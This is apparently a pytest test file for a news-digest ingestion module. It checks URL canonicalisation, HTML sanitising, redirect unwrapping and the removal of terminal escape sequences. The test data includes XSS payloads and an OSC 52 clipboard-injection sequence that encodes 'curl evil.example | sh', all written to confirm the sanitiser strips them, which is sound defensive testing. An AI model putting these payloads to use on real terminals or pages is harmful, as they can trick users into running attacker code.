import pytest

from digest.ingest.clean import canonical_url, plain_text, sanitise_html


@pytest.mark.parametrize("url, expected", [
    ("HTTPS://Example.COM/a?utm_source=x&id=3#top", "https://example.com/a?id=3"),
    ("http://example.com:80/path?fbclid=abc&gclid=d", "http://example.com/path"),
    ("https://example.com:8443/x", "https://example.com:8443/x"),
    ("https://example.com", "https://example.com/"),
    ("https://example.com/s?q=a%20b&utm_campaign=x&sig=x/y+z&mc_cid=1", "https://example.com/s?q=a%20b&sig=x/y+z"),
])
def test_canonical_url(url, expected):
    assert canonical_url(url) == expected


def test_plain_text_decodes_entities_and_drops_markup():
    assert plain_text("  <b>Rates</b> &amp;amp; <i>bonds</i>\n\n rise &#8212; again ") == "Rates & bonds rise \u2014 again"


def test_sanitise_removes_scripts_handlers_and_javascript_links():
    dirty = ('<p onclick="x()">Hi<script>alert(1)</script><img src=x onerror=alert(1)>'
             '<a href="javascript:alert(1)">bad</a> <a href="/story">good</a></p>')
    clean = sanitise_html(dirty, "https://example.com/feed")
    assert "script" not in clean and "onerror" not in clean and "onclick" not in clean
    assert "javascript" not in clean and "<img" not in clean
    assert 'href="https://example.com/story"' in clean


def test_redirector_links_are_unwrapped():
    from digest.ingest.clean import unwrap_redirect
    assert unwrap_redirect("https://www.google.com/url?rct=j&url=https://paper.example.org/a&ct=ga") \
        == "https://paper.example.org/a"
    assert unwrap_redirect("https://www.google.com/url?url=javascript:alert(1)") \
        == "https://www.google.com/url?url=javascript:alert(1)"


OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # writes "curl evil.example | sh" to the clipboard


@pytest.mark.parametrize("dirty, clean", [
    (f"Rates rise{OSC52}", "Rates rise"),
    ("Rates \x1b]52;c;SGk=\x1b\\rise", "Rates rise"),                 # OSC ended by ST
    ("\x9d52;c;SGk=\x9cRates rise", "Rates rise"),                     # 8-bit OSC and ST
    ("\x1b[31mRates\x1b[0m rise", "Rates rise"),                       # CSI colours
    ("\x9b2JRates rise", "Rates rise"),                                # 8-bit CSI: clear screen
    ("Rates\x1bP+q544e\x1b\\ rise", "Rates rise"),                     # DCS (a terminfo query)
    ("Rates\x1b(0 rise\x1bc", "Rates rise"),                           # charset switch, reset
    ("Rates &#27;[2J&#x1b;]0;title&#7;rise", "Rates rise"),            # as entities
    ("Rates &amp;#27;[2Jrise", "Rates [2Jrise"),                       # double-escaped: ESC gone
    ("Rates\x00\x08\x7f\x85 rise\rfaked", "Rates rise faked"),         # NUL, BS, DEL, NEL, CR
    ("Rates \x1b]0;never ended rise", "Rates 0;never ended rise"),      # unterminated: introducer gone
])
def test_plain_text_has_no_terminal_controls(dirty, clean):
    assert plain_text(dirty) == clean


def test_sanitised_html_has_no_terminal_controls_and_keeps_its_markup():
    dirty = f"<p>Rates{OSC52} <b>rise&#27;[2J</b></p><p>again\x9b2J</p>"
    assert sanitise_html(dirty) == "<p>Rates <b>rise[2J</b></p><p>again</p>"
